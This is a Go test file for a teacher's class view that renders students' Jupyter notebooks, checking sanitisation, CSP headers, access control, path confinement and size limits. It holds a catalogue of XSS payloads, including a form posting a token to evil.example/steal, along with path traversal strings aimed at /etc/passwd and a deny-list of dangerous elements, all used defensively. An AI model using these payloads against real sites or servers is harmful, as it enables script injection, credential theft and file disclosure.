package classview

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"image"
	"image/jpeg"
	"image/png"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/k12notebooks/golessons/internal/hub"

	"golang.org/x/net/html"

	"github.com/k12notebooks/golessons/internal/lessontest"
	"github.com/k12notebooks/golessons/internal/quizwidget"
)

// nb is a notebook's JSON (nbformat 4) with these cells and metadata.
func nb(t *testing.T, meta map[string]any, cells ...map[string]any) string {
	t.Helper()
	if meta == nil {
		meta = map[string]any{"kernelspec": map[string]any{"name": "gonb", "display_name": "Go (gonb)", "language": "go"}}
	}
	if cells == nil {
		cells = []map[string]any{}
	}
	data, err := json.Marshal(map[string]any{"cells": cells, "metadata": meta, "nbformat": 4, "nbformat_minor": 5})
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// code is a code cell with outputs.
func code(source string, outputs ...map[string]any) map[string]any {
	if outputs == nil {
		outputs = []map[string]any{}
	}
	return map[string]any{"cell_type": "code", "source": source, "execution_count": 1, "metadata": map[string]any{}, "outputs": outputs}
}

func stream(name, text string) map[string]any {
	return map[string]any{"output_type": "stream", "name": name, "text": text}
}

func displayOut(data map[string]any) map[string]any {
	return map[string]any{"output_type": "display_data", "data": data, "metadata": map[string]any{}}
}

// imageB64 is a small PNG or JPEG, base64.
func imageB64(t *testing.T, kind string) string {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 2, 2))
	var buf bytes.Buffer
	var err error
	if kind == "png" {
		err = png.Encode(&buf, img)
	} else {
		err = jpeg.Encode(&buf, img, nil)
	}
	if err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

// hostileHTML is a catalogue of markup that must not act in the teacher's browser.
const hostileHTML = `<script>alert("s1")</script><img src=x onerror=alert("s2")>` +
	`<a href="javascript:alert('s3')">js link</a><a href=" JaVaScRiPt:alert('s3b')">js link 2</a>` +
	`<svg onload=alert("s4")><script>alert("s4b")</script><foreignObject><iframe src="javascript:alert('s4c')"></iframe></foreignObject></svg>` +
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>` +
	`<div style="background:url(javascript:alert('s5'));width:expression(alert('s6'))">css text</div>` +
	`<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">` +
	`<form action="https://evil.example/steal" method="post"><input name="token"><button formaction="https://evil.example/">Go</button></form>` +
	`<iframe src="https://evil.example/" srcdoc="<script>alert('s7')</script>"></iframe>` +
	`<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><link rel="stylesheet" href="https://evil.example/x.css">` +
	`<style>body{display:none}</style><math><mi xlink:href="javascript:alert('s8')">m</mi></math>` +
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">` +
	`<p id="notebook" class="right" title="t">a paragraph</p><h1>A big heading</h1><table><tr><td>cell<td>open` +
	`</main></body></html><a href="https://example.org/ok">a good link</a><a href="https://example.org/empty"></a>` +
	`<noscript><img src=x onerror=alert("s9")></noscript><template><script>alert("s10")</script></template>` +
	`<textarea><script>alert("s11")</script></textarea><details open ontoggle=alert("s12")>d</details>`

// hostileNotebook is a notebook with every kind of hostile cell and output.
func hostileNotebook(t *testing.T, quizHTML string, meta map[string]any) string {
	pngB64 := imageB64(t, "png")
	return nb(t, meta,
		map[string]any{"cell_type": "markdown", "source": []string{"# Title\n", "<script>alert('md')</script>\n"}, "metadata": map[string]any{}},
		code("fmt.Println(\"<script>alert('src')</script>\")",
			stream("stdout", "\x1b[31mred text\x1b[0m <script>alert('out')</script>\x1b]0;title\x07\n"),
			stream("stderr", "warning: \x1b[1mbold\x1b[22m\r\n"),
			map[string]any{"output_type": "error", "ename": "panic", "evalue": "<b>boom</b>",
				"traceback": []string{"\x1b[0;31mpanic: <img src=x onerror=alert(1)>\x1b[0m", "goroutine 1"}}),
		code("html", displayOut(map[string]any{"text/html": hostileHTML, "text/plain": "plain form"})),
		code("md", displayOut(map[string]any{"text/markdown": "[md js](javascript:alert(1)) <script>alert('md2')</script> **bold** ![i](javascript:alert(2))"})),
		code("js", displayOut(map[string]any{"application/javascript": "alert('js')"})),
		code("widget", displayOut(map[string]any{"application/vnd.jupyter.widget-view+json": map[string]any{"model_id": "x"}})),
		code("svg", displayOut(map[string]any{"image/svg+xml": "<svg onload=alert(1)></svg>"})),
		code("images", displayOut(map[string]any{"image/png": pngB64}), displayOut(map[string]any{"image/jpeg": imageB64(t, "jpeg")}),
			displayOut(map[string]any{"image/png": base64.StdEncoding.EncodeToString([]byte("<script>alert(1)</script>"))}),
			displayOut(map[string]any{"image/png": "not base64 at all!"})),
		code("quiz", displayOut(map[string]any{"text/html": quizHTML})),
		code("quiz with text", displayOut(map[string]any{"text/html": quizHTML, "text/plain": "Question (free text): What?\n"})),
	)
}

// classWithStudent is a class with the teacher signed in, and alice, a
// student, whose home is returned.
func classWithStudent(t *testing.T, others ...string) (*class, *browser, string) {
	c := newClass(t, nil)
	for _, name := range append(others, "alice") {
		c.hub.addUser(hub.User{Name: name})
	}
	home := filepath.Join(c.homes, "alice")
	if err := os.MkdirAll(home, 0o755); err != nil {
		t.Fatal(err)
	}
	return c, c.signedIn(), home
}

// badMarkup reports markup in page that could act: a script, handler,
// style, form, frame, base, meta refresh, SVG or MathML, or a URL other
// than the class view's own, http(s), mailto or a checked data: image.
func badMarkup(page string) []string {
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	var bad []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			bad = append(bad, badElement(n)...)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return bad
}

var (
	forbiddenElements = map[string]bool{"script": true, "style": true, "iframe": true, "frame": true, "object": true, "embed": true,
		"form": true, "input": true, "button": true, "textarea": true, "select": true, "base": true, "svg": true, "math": true,
		"template": true, "noscript": true, "details": true, "video": true, "audio": true, "source": true, "applet": true}
	goodHref = regexp.MustCompile(`^(` + regexp.QuoteMeta(prefix) + `|https?://|mailto:)`)
	goodSrc  = regexp.MustCompile(`^data:image/(png|jpeg);base64,[A-Za-z0-9+/]+=*$`)
)

func badElement(n *html.Node) []string {
	var bad []string
	if forbiddenElements[n.Data] || n.Namespace != "" {
		bad = append(bad, "element <"+n.Data+">")
	}
	for _, a := range n.Attr {
		k := strings.ToLower(a.Key)
		switch {
		case strings.HasPrefix(k, "on"), k == "style", k == "srcdoc", k == "formaction", k == "http-equiv", k == "xlink:href", k == "action", k == "data":
			bad = append(bad, fmt.Sprintf("<%s %s=%q>", n.Data, k, a.Val))
		case k == "href" && !goodHref.MatchString(a.Val):
			bad = append(bad, fmt.Sprintf("<%s href=%q>", n.Data, a.Val))
		case k == "src" && !goodSrc.MatchString(a.Val):
			bad = append(bad, fmt.Sprintf("<%s src=%.40q>", n.Data, a.Val))
		}
	}
	if n.Data == "link" && attrOf(n, "href") != prefix+"static/classview.css" {
		bad = append(bad, "a <link> to "+attrOf(n, "href"))
	}
	if n.Data == "a" && strings.HasPrefix(attrOf(n, "href"), "http") {
		rel := attrOf(n, "rel")
		if attrOf(n, "target") != "_blank" || !strings.Contains(rel, "noopener") || !strings.Contains(rel, "noreferrer") || !strings.Contains(rel, "nofollow") {
			bad = append(bad, fmt.Sprintf("an outside link without target=_blank rel=noopener noreferrer nofollow: %v", n.Attr))
		}
	}
	return bad
}

func attrOf(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// wantNotebookHeaders fails unless resp has the headers of a notebook page.
func wantNotebookHeaders(t *testing.T, resp *http.Response) {
	t.Helper()
	h := resp.Header
	if h.Get("Content-Security-Policy") != NotebookPolicy || h.Get("X-Content-Type-Options") != "nosniff" ||
		h.Get("Referrer-Policy") != "no-referrer" || h.Get("X-Frame-Options") != "DENY" || h.Get("Cache-Control") != "no-store" ||
		!strings.HasPrefix(h.Get("Content-Type"), "text/html; charset=utf-8") {
		t.Errorf("headers of %s: %v", resp.Request.URL, h)
	}
	for _, d := range []string{"default-src 'none'", "img-src data:", "sandbox", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"} {
		if !strings.Contains(h.Get("Content-Security-Policy"), d) {
			t.Errorf("the CSP lacks %s", d)
		}
	}
	if strings.Contains(NotebookPolicy, "script-src") || strings.Contains(NotebookPolicy, "allow-scripts") || strings.Contains(NotebookPolicy, "allow-same-origin") {
		t.Errorf("the notebook pages' CSP allows scripts: %s", NotebookPolicy)
	}
}

// Every kind of hostile output and source reaches the page as text or
// inert HTML, under a CSP that runs nothing anyway.
func TestHostileNotebookIsInert(t *testing.T) {
	c, b, home := classWithStudent(t)
	free, _, _ := lessontest.Questions(t)
	quizHTML, _ := quizwidget.Render(free)
	if !strings.Contains(quizHTML, "<script>") || !strings.Contains(quizHTML, "gq-quiz") {
		t.Fatalf("the quiz widget's HTML has changed: %.200s", quizHTML)
	}
	lessontest.WriteFile(t, filepath.Join(home, "lessons", "hostile.ipynb"), hostileNotebook(t, quizHTML, nil))
	resp, page := b.get(c.url + prefix + "notebooks/alice/lessons/hostile.ipynb")
	if resp.StatusCode != 200 {
		t.Fatalf("%d\n%s", resp.StatusCode, page)
	}
	wantNotebookHeaders(t, resp)
	for _, bad := range badMarkup(page) {
		t.Errorf("executable or outside markup: %s", bad)
	}
	for _, w := range []string{
		`<main id="notebook">`,
		"fmt.Println(&#34;&lt;script&gt;alert(&#39;src&#39;)&lt;/script&gt;&#34;)", // the source, as text
		"&lt;script&gt;alert(&#39;md&#39;)&lt;/script&gt;",                         // a Markdown cell's source, as text
		`<pre class="out-text">red text &lt;script&gt;alert(&#39;out&#39;)&lt;/script&gt;`,
		`<pre class="out-stderr">warning: bold`,
		`<pre class="out-error">panic: &lt;img src=x onerror=alert(1)&gt;` + "\ngoroutine 1</pre>",
		`<a href="https://example.org/ok" rel="nofollow noreferrer noopener" target="_blank">a good link</a>`,
		`>https://example.org/empty</a>`, // a link without text gets its address
		`<p class="out-heading">A big heading</p>`,
		"<p>a paragraph</p>", "css text", "<strong>bold</strong>",
		"(an output of type application/javascript, not shown)",
		"(an output of type application/vnd.jupyter.widget-view&#43;json, not shown)",
		"(an output of type image/svg&#43;xml, not shown)",
		"<strong>bold</strong> (image not shown: i)</p>",
		`<img src="data:image/png;base64,` + imageB64(t, "png") + `" alt="An image output (image/png)">`,
		`alt="An image output (image/jpeg)"`,
		"(an output of type image/png that is not a valid image, not shown)",
		"A quiz question (shown as text; its answers are in the class view):\nQuestion (free text): What?",
		free.Text, // the widget's HTML without its text form: inert, the question as text
	} {
		if !strings.Contains(page, w) {
			t.Errorf("page lacks %q", w)
		}
	}
	if strings.Contains(page, "\x1b") || strings.Contains(page, "]0;title") {
		t.Errorf("terminal escapes reached the page")
	}
	if strings.Count(page, "not a valid image") != 2 || strings.Count(page, "<img") != 2 {
		t.Errorf("images: %d valid, %d refused", strings.Count(page, "<img"), strings.Count(page, "not a valid image"))
	}
	for _, forbidden := range []string{"id=\"notebook\" class", "class=\"right\"", "gq-", "evil.example"} {
		if strings.Contains(page, forbidden) {
			t.Errorf("the page holds %q from an output", forbidden)
		}
	}
}

// A trusted notebook (signed, as Jupyter's trust database would accept)
// is shown exactly as the same notebook unsigned.
func TestTrustedNotebookMakesNoDifference(t *testing.T) {
	c, b, home := classWithStudent(t)
	free, _, _ := lessontest.Questions(t)
	quizHTML, _ := quizwidget.Render(free)
	quizHTML = regexp.MustCompile(`gq-[0-9a-f-]{8,}`).ReplaceAllString(quizHTML, "gq-fixed")
	signed := map[string]any{"signature": "sha256:" + strings.Repeat("ab", 32), "trusted": true,
		"kernelspec": map[string]any{"name": "gonb"}}
	lessontest.WriteFile(t, filepath.Join(home, "plain.ipynb"), hostileNotebook(t, quizHTML, nil))
	lessontest.WriteFile(t, filepath.Join(home, "signed.ipynb"), hostileNotebook(t, quizHTML, signed))
	_, plain := b.get(c.url + prefix + "notebooks/alice/plain.ipynb")
	_, trusted := b.get(c.url + prefix + "notebooks/alice/signed.ipynb")
	norm := func(s string) string {
		return regexp.MustCompile(`plain\.ipynb|signed\.ipynb|saved at [^(]*\(\d+(\.\d)? [KMG]?i?B(ytes)?\)`).ReplaceAllString(s, "")
	}
	if norm(plain) != norm(trusted) || !strings.Contains(plain, `<main id="notebook">`) {
		t.Errorf("the signature changes the page")
	}
}

// Only hub admins see the notebook pages: no session goes to the hub's
// login (a token in a header is no session), a student gets 403.
func TestNotebookPagesNeedAnAdmin(t *testing.T) {
	c, teacher, home := classWithStudent(t, "bob")
	lessontest.WriteFile(t, filepath.Join(home, "lessons", "a.ipynb"), nb(t, nil, code("secret work")))
	c.hub.Token("bob-token", withTokenScopes(hub.User{Kind: "user", Name: "bob"}))
	for _, u := range []string{"notebooks/alice/", "notebooks/alice/lessons/a.ipynb", "notebooks/nobody/x.ipynb", "notebooks/%2e%2e/"} {
		anon := c.browser("")
		req, _ := http.NewRequest(http.MethodGet, c.url+prefix+u, nil)
		req.Header.Set("Authorization", "token bob-token")
		resp, err := anon.client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusFound || !strings.HasPrefix(resp.Header.Get("Location"), c.hubURL+"/hub/api/oauth2/authorize?") {
			t.Errorf("%s without a session: %d %s", u, resp.StatusCode, resp.Header.Get("Location"))
		}
		resp, body := c.browser("bob").follow(c.url + prefix + u)
		if resp.StatusCode != http.StatusForbidden || strings.Contains(body, "secret work") || !strings.Contains(body, "Only teachers may see the class view") {
			t.Errorf("%s as a student: %d\n%s", u, resp.StatusCode, body)
		}
	}
	// The login comes back to the notebook asked for.
	resp, body := c.browser("teacher").follow(c.url + prefix + "notebooks/alice/lessons/a.ipynb")
	if resp.StatusCode != 200 || !strings.Contains(body, "secret work") {
		t.Errorf("the teacher, signing in on the notebook's page: %d", resp.StatusCode)
	}
	if resp, body := teacher.get(c.url + prefix + "notebooks/alice/lessons/a.ipynb"); resp.StatusCode != 200 || !strings.Contains(body, "secret work") {
		t.Errorf("the teacher: %d", resp.StatusCode)
	}
}

// A path cannot leave the student's home, nor show what the list does not.
func TestNotebookPathsStayInTheHome(t *testing.T) {
	c, b, home := classWithStudent(t, "bob")
	bobHome := filepath.Join(c.homes, "bob")
	lessontest.WriteFile(t, filepath.Join(bobHome, "lessons", "b.ipynb"), nb(t, nil, code("bob's secret")))
	lessontest.WriteFile(t, filepath.Join(c.homes, "teacher", "t.ipynb"), nb(t, nil, code("teacher's secret")))
	lessontest.WriteFile(t, filepath.Join(c.homes, "stranger", "s.ipynb"), nb(t, nil, code("stranger's secret"))) // a home, not a student
	lessontest.WriteFile(t, filepath.Join(home, ".hidden", "h.ipynb"), nb(t, nil, code("hidden secret")))
	lessontest.WriteFile(t, filepath.Join(home, "a", "b", "c", "d", "deep.ipynb"), nb(t, nil, code("too deep")))
	lessontest.WriteFile(t, filepath.Join(home, "a", "b", "c", "ok.ipynb"), nb(t, nil, code("deep enough")))
	lessontest.WriteFile(t, filepath.Join(home, "notes.txt"), nb(t, nil, code("not a notebook name")))
	mustSymlink(t, filepath.Join(bobHome, "lessons", "b.ipynb"), filepath.Join(home, "stolen.ipynb"))
	mustSymlink(t, filepath.Join(bobHome, "lessons"), filepath.Join(home, "bobs"))
	mustSymlink(t, "/etc/passwd", filepath.Join(home, "passwd.ipynb"))
	if resp, body := b.get(c.url + prefix + "notebooks/alice/a/b/c/ok.ipynb"); resp.StatusCode != 200 || !strings.Contains(body, "deep enough") {
		t.Fatalf("a notebook 3 folders down: %d", resp.StatusCode)
	}
	for _, u := range []string{
		"notebooks/alice/../bob/lessons/b.ipynb", "notebooks/alice/..%2fbob%2flessons%2fb.ipynb", "notebooks/alice/%2e%2e/bob/lessons/b.ipynb",
		"notebooks/alice/lessons%2f..%2f..%2fbob%2flessons%2fb.ipynb", "notebooks/alice//etc/passwd", "notebooks/alice/%2fetc%2fpasswd",
		"notebooks/..%2fbob/lessons/b.ipynb", "notebooks/%2e%2e/", "notebooks/alice%2f..%2fbob/lessons/b.ipynb",
		"notebooks/alice/stolen.ipynb", "notebooks/alice/bobs/b.ipynb", "notebooks/alice/passwd.ipynb",
		"notebooks/alice/.hidden/h.ipynb", "notebooks/alice/a/b/c/d/deep.ipynb", "notebooks/alice/notes.txt",
		"notebooks/alice/missing.ipynb", "notebooks/alice/lessons/b.ipynb", "notebooks/alice/a%00.ipynb",
		"notebooks/teacher/", "notebooks/teacher/t.ipynb", "notebooks/stranger/s.ipynb", "notebooks/nobody/",
		"notebooks/", "notebooks//", "notebooks/alice/a/b/c/d/e/f.ipynb",
	} {
		resp, body := b.get(c.url + prefix + u)
		if resp.StatusCode == 200 || resp.StatusCode >= 500 {
			t.Errorf("%s: %d", u, resp.StatusCode)
		}
		for _, secret := range []string{"secret", "root:", "too deep", "not a notebook name"} {
			if strings.Contains(body, secret) {
				t.Errorf("%s shows %q", u, secret)
			}
		}
	}
	resp, list := b.get(c.url + prefix + "notebooks/alice/")
	if resp.StatusCode != 200 {
		t.Fatalf("the list: %d", resp.StatusCode)
	}
	wantNotebookHeaders(t, resp)
	for _, w := range []string{"<code>stolen.ipynb</code>: not shown, it is a symbolic link", "<code>passwd.ipynb</code>: not shown, it is a symbolic link",
		`<a href="` + prefix + `notebooks/alice/a/b/c/ok.ipynb">a/b/c/ok.ipynb</a>`} {
		if !strings.Contains(list, w) {
			t.Errorf("the list lacks %q\n%s", w, list)
		}
	}
	for _, n := range []string{"deep.ipynb", "h.ipynb", "b.ipynb", "notes.txt"} {
		if strings.Contains(list, n) {
			t.Errorf("the list shows %s", n)
		}
	}
}

// A FIFO, a 1 GB sparse file, huge outputs, too many cells or outputs,
// and damaged JSON: each page comes quickly, says what is left out, and
// is never a 500.
func TestNotebookBounds(t *testing.T) {
	c, b, home := classWithStudent(t)
	if err := syscall.Mkfifo(filepath.Join(home, "x.ipynb"), 0o644); err != nil {
		t.Skip("no FIFOs:", err)
	}
	sparse, err := os.Create(filepath.Join(home, "sparse.ipynb"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sparse.WriteString(nb(t, nil, code("first cell"))[:60]); err != nil { // a notebook's start, then 1 GB of zeros
		t.Fatal(err)
	}
	if err := sparse.Truncate(1 << 30); err != nil {
		t.Skip("no sparse files:", err)
	}
	sparse.Close()
	huge := strings.Repeat("x", 3<<20)
	lessontest.WriteFile(t, filepath.Join(home, "huge.ipynb"), nb(t, nil, code(huge, stream("stdout", huge),
		displayOut(map[string]any{"text/html": "<p>" + huge + "</p>", "text/plain": "the plain form"}))))
	many := make([]map[string]any, 1200)
	for i := range many {
		many[i] = map[string]any{"cell_type": "raw", "source": fmt.Sprint("cell ", i+1)}
	}
	lessontest.WriteFile(t, filepath.Join(home, "many.ipynb"), nb(t, nil, many...))
	outs := make([]map[string]any, 70)
	for i := range outs {
		outs[i] = stream("stdout", fmt.Sprintf("line %d\n", i+1))
	}
	lessontest.WriteFile(t, filepath.Join(home, "outputs.ipynb"), nb(t, nil, code("loop", outs...)))
	whole := nb(t, nil, code("one"), code("two"))
	for name, content := range map[string]string{"cut.ipynb": whole[:len(whole)-30], "empty.ipynb": "", "array.ipynb": "[1,2]",
		"old.ipynb": `{"worksheets":[],"nbformat":3}`, "typed.ipynb": `{"cells":[{"cell_type":"code","source":5,"outputs":[{"output_type":"stream","name":7,"text":["a","b"]}]},"x",{"cell_type":"markdown","source":"fine"}]}`,
		"bad.ipynb": `{"cells":[{"cell_type":"code","source":"ok"},{"cell_type":}]}`} {
		lessontest.WriteFile(t, filepath.Join(home, name), content)
	}
	for u, want := range map[string][]string{
		"x.ipynb":       {"403", "it is a FIFO"},
		"sparse.ipynb":  {"200", "The file is 1.0 GiB, over the limit of 16.0 MiB: only its beginning is read", "The notebook&#39;s JSON is damaged after 0 cells"},
		"huge.ipynb":    {"200", "(2.9 MiB more, not shown)", "the plain form", "(an output of type text/html of 3.0 MiB, over the limit of 512.0 KiB, not shown)"},
		"many.ipynb":    {"200", "more than 1000 cells: only the first 1000 are shown", "cell 1000</code>"},
		"outputs.ipynb": {"200", "line 50\n</pre>", "(20 more outputs, not shown: a cell shows at most 50)"},
		"cut.ipynb":     {"200", "The notebook&#39;s JSON ends too early, after 2 cells", "two"},
		"empty.ipynb":   {"200", "This is not a notebook"},
		"array.ipynb":   {"200", "This is not a notebook"},
		"old.ipynb":     {"200", "This notebook has no cells"},
		"typed.ipynb":   {"200", "Part of this cell is not in the notebook format", "<pre class=\"out-text\">ab</pre>", "Cell 2: unknown", "fine"},
		"bad.ipynb":     {"200", "The notebook&#39;s JSON is damaged after 1 cells", "ok"},
	} {
		start := time.Now()
		resp, body := b.get(c.url + prefix + "notebooks/alice/" + u)
		if fmt.Sprint(resp.StatusCode) != want[0] {
			t.Errorf("%s: %d, want %s\n%.500s", u, resp.StatusCode, want[0], body)
		}
		for _, w := range want[1:] {
			if !strings.Contains(body, w) {
				t.Errorf("%s lacks %q\n%.3000s", u, w, body)
			}
		}
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s took %v", u, d)
		}
		if strings.Contains(body, "cell 1001<") {
			t.Errorf("%s shows cells over the limit", u)
		}
	}
}

// The class view links each student to their notebooks; the list puts the
// lessons first and stops at its bounds.
func TestNotebookList(t *testing.T) {
	c, b, home := classWithStudent(t, "<b>x</b>")
	lessontest.WriteFile(t, filepath.Join(home, "zeta.ipynb"), nb(t, nil))
	lessontest.WriteFile(t, filepath.Join(home, "lessons", "openai-streaming.ipynb"), nb(t, nil))
	lessontest.WriteFile(t, filepath.Join(home, "lessons", ".ipynb_checkpoints", "openai-streaming-checkpoint.ipynb"), nb(t, nil))
	lessontest.WriteFile(t, filepath.Join(home, "node_modules", "n.ipynb"), nb(t, nil))
	lessontest.WriteFile(t, filepath.Join(home, "my work", "a#b?.ipynb"), nb(t, nil, code("odd name")))
	_, page := b.get(c.url + prefix)
	if !strings.Contains(page, `<a href="notebooks/alice/">notebooks<span class="sr"> of alice</span></a>`) ||
		!strings.Contains(page, `<a href="notebooks/%3Cb%3Ex%3C%2Fb%3E/">notebooks<span class="sr"> of &lt;b&gt;x&lt;/b&gt;</span></a>`) {
		t.Errorf("the class view does not link to the notebooks:\n%s", page)
	}
	resp, list := b.get(c.url + prefix + "notebooks/alice/")
	if resp.StatusCode != 200 {
		t.Fatal(resp.StatusCode)
	}
	items := regexp.MustCompile(`<a href="[^"]*">([^<]*)</a> <span class="muted">`).FindAllStringSubmatch(list, -1)
	var names []string
	for _, m := range items {
		names = append(names, m[1])
	}
	if strings.Join(names, ",") != "lessons/openai-streaming.ipynb,my work/a#b?.ipynb,zeta.ipynb" || !strings.Contains(list, `<ul id="student-notebooks">`) {
		t.Errorf("the list: %v\n%s", names, list)
	}
	for _, bad := range badMarkup(list) {
		t.Errorf("the list has %s", bad)
	}
	if resp, body := b.get(c.url + prefix + "notebooks/alice/my%20work/a%23b%3F.ipynb"); resp.StatusCode != 200 || !strings.Contains(body, "odd name") {
		t.Errorf("a notebook with an odd name: %d", resp.StatusCode)
	}
	for i := range 210 {
		lessontest.WriteFile(t, filepath.Join(home, "many", fmt.Sprintf("n%03d.ipynb", i)), nb(t, nil))
	}
	_, list = b.get(c.url + prefix + "notebooks/alice/")
	if n := strings.Count(list, "<li>"); n != maxNotebooksListed || !strings.Contains(list, "The list may be incomplete: only the first 200 notebooks are listed.") {
		t.Errorf("%d notebooks listed", n)
	}
}

// A file of another user (a hard link, where the system allows one) is refused.
func TestOwnerCheck(t *testing.T) {
	dir := t.TempDir()
	home, _ := os.Lstat(dir)
	check := ownerCheck(home)
	if check == nil {
		t.Skip("no owners here")
	}
	if why := check(home); why != "" {
		t.Errorf("the home's owner refused: %s", why)
	}
	st := *home.Sys().(*syscall.Stat_t)
	st.Uid++
	if why := check(fakeInfo{home, &st}); !strings.Contains(why, "another user") {
		t.Errorf("another owner: %q", why)
	}
}

type fakeInfo struct {
	os.FileInfo
	sys any
}

func (f fakeInfo) Sys() any { return f.sys }
